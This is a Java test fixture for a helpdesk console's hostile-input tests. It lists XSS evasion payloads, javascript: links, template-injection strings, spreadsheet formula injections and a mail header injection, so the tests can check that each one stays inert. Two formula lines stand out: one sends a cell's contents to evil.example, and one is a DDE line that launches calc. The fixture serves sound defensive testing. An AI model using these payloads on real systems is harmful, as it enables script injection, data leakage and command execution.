package org.linedesk.security;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;

/**
 * Hostile customer input for {@link HostileInputTest}. Every script payload, if it ever ran, would set
 * {@value #MARKER_NAME} (never {@code alert()}, which a headless browser would only block on); the browser
 * checks that the marker stays undefined. Each entry fits a ticket subject (at most 200 characters).
 */
final class HostileCorpus {

    static final String MARKER_NAME = "window.__pwned";
    private static final String RUN = "window.__pwned=true";

    private HostileCorpus() {
    }

    /** Classic XSS filter evasion: tags in any casing, event handlers, breaking out of attributes and elements. */
    static final List<String> MARKUP = List.of(
            "<script>" + RUN + "</script>",
            "<ScRiPt>" + RUN + "</sCrIpT>",
            "<script src=data:text/javascript," + RUN + "></script>",
            "<img src=x onerror=" + RUN + ">",
            "<IMG SRC=\"x\" ONERROR=\"" + RUN + "\">",
            "<svg onload=" + RUN + ">",
            "<svg><script>" + RUN + "</script></svg>",
            "<iframe srcdoc=\"<script>parent.__pwned=true</script>\"></iframe>",
            "\"><script>" + RUN + "</script>",
            "'><img src=x onerror=" + RUN + ">",
            "</title><script>" + RUN + "</script>",
            "</textarea><script>" + RUN + "</script>",
            "</pre><svg/onload=" + RUN + ">",
            "<body onload=" + RUN + ">",
            "<details open ontoggle=" + RUN + ">",
            "<input autofocus onfocus=" + RUN + ">",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
            "<!--<img src=\"--><img src=x onerror=" + RUN + "//\">",
            "<object data=\"javascript:" + RUN + "\"></object>",
            "<embed src=\"javascript:" + RUN + "\">",
            "<base href=\"javascript:" + RUN + "//\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + RUN + "\">",
            "<form action=\"javascript:" + RUN + "\"><button>go</button></form>",
            "<div style=\"width:expression(" + RUN + ")\">css</div>",
            "<style>*{background:url(\"javascript:" + RUN + "\")}</style>",
            // htmx is on every console page: attributes it would act on must never reach the DOM
            "<div hx-get=\"/work\" hx-trigger=\"load\" hx-on::after-request=\"" + RUN + "\">htmx</div>");

    /** Links a browser would follow into script: every casing, entity-encoded, with control characters, data: URLs. */
    static final List<String> LINKS = List.of(
            "<a href=\"javascript:" + RUN + "\">link one</a>",
            "<a href=\"JaVaScRiPt:" + RUN + "\">link two</a>",
            "<a href=\"" + entities("javascript:") + RUN + "\">link three</a>",
            "<a href=\" &#x09;java&#x0A;script:" + RUN + "\">link four</a>",
            "<a href=\"data:text/html;base64," + base64("<script>" + RUN + "</script>") + "\">link five</a>",
            "javascript:" + RUN);

    /** Template languages of the stack (Mustache, Thymeleaf, SpEL/EL) and a few others: must stay literal text. */
    static final List<String> TEMPLATE_INJECTION = List.of(
            "{{ticket.number}}", "{{{customer.email}}}", "{{#ticket}}{{number}}{{/ticket}}", "{{=<% %>=}}",
            "${7*7}", "#{7*7}", "*{7*7}", "@{//evil.example}", "[[${7*7}]]", "[(${T(java.lang.Runtime).getRuntime()})]",
            "__${7*7}__::x", "<%= 7*7 %>", "#set($x=7*7)${x}",
            "{{constructor.constructor('" + RUN + "')()}}");

    /** Text a spreadsheet would take for a formula; the exports must keep it text. */
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "=cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1");

    /** U+202E (right-to-left override) makes "exe.pdf" read as "fdp.exe"; zero-width characters hide inside a name. */
    static final String BIDI_NAME = "Ivan \u202Efdp.exe\u202C Petrov";
    static final String ZERO_WIDTH_NAME = "I\u200Bv\u200Ca\u200Dn\u2060 \uFEFFPetrov";

    /** What a header injection would add: a blind copy to someone else and a header of our choosing. */
    static final String VICTIM_DOMAIN = "victim.example";
    static final String INJECTED = "\r\nBcc: victim@" + VICTIM_DOMAIN + "\r\nX-Injected: yes";

    /** Every markup and link payload. */
    static List<String> scripts() {
        return Stream.concat(MARKUP.stream(), LINKS.stream()).toList();
    }

    /** Everything above in one text (a description, a message body). */
    static String everything() {
        List<String> all = new ArrayList<>(scripts());
        all.addAll(TEMPLATE_INJECTION);
        all.add(BIDI_NAME);
        all.add(ZERO_WIDTH_NAME);
        return String.join("\n", all);
    }

    /** An HTML mail part made of every markup and link payload around some harmless text that must survive. */
    static String htmlMail(String harmless) {
        return "<html><head><title>x</title><script>" + RUN + "</script>"
                + "<style>body{background:url('javascript:" + RUN + "')}</style></head>"
                + "<body onload=\"" + RUN + "\"><p>" + harmless + "</p>"
                + "<p><a href=\"https://example.com/report\">the report</a></p>"
                + String.join("\n", scripts()) + "</body></html>";
    }

    /**
     * A text whose '<' and '>' are written as overlong UTF-8 sequences (2, 3 and 4 bytes): a decoder that
     * accepted them would turn it into a script tag. A correct one yields U+FFFD.
     */
    static byte[] overlongUtf8(String prefix) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(prefix.getBytes(StandardCharsets.UTF_8));
        out.writeBytes(new byte[] {(byte) 0xC0, (byte) 0xBC});                          // '<' in two bytes
        out.writeBytes("script".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xBE});             // '>' in three bytes
        out.writeBytes(RUN.getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {(byte) 0xF0, (byte) 0x80, (byte) 0x80, (byte) 0xBC}); // '<' in four bytes
        out.writeBytes("/script".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {(byte) 0xC1, (byte) 0xBE});                          // '>' in two bytes
        return out.toByteArray();
    }

    /** A body of {@code bytes} characters on one line, ending in a marker to prove nothing was cut. */
    static String singleLine(int bytes, String end) {
        return "x".repeat(bytes - end.length()) + end;
    }

    static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String entities(String text) {
        StringBuilder s = new StringBuilder();
        text.chars().forEach(c -> s.append("&#").append(c).append(';'));
        return s.toString();
    }
}
